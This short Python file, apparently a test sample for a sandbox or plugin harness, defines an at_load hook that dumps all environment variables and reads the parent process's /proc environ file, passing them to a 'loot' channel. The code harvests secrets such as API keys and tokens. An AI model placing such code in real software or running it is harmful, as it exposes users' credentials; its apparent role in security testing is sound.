"""reads a secret from the environment"""
# ruff: noqa: F821


def at_load():
    import os

    tell("loot", repr(dict(os.environ)))
    with open(f"/proc/{os.getppid()}/environ") as file:
        tell("loot", file.read())
